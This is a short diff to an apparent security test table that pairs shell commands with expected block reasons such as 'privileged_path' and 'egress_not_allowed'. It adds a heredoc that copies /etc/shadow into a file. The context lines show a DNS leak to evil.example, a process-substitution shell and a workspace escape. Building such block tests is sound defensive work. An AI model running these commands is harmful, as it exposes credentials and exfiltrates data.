@@ -138,6 +138,7 @@ SHELL_MORE = {
     "dns_leak": ("dig +short TXT leak.evil.example", "egress_not_allowed"),
     "variable_path": ("F=/etc/shadow; cat $F", "privileged_path"),
     "tee_procsub": ("echo id | tee >(sh)", "shell_interpreter"),
+    "heredoc_substitution": ("cat <<EOF > notes.txt\n$(cat /etc/shadow)\nEOF", "privileged_path"),
     "pwd_escape": ("echo x > $PWD/../escape.txt", "path_outside_workspace"),
 }
 
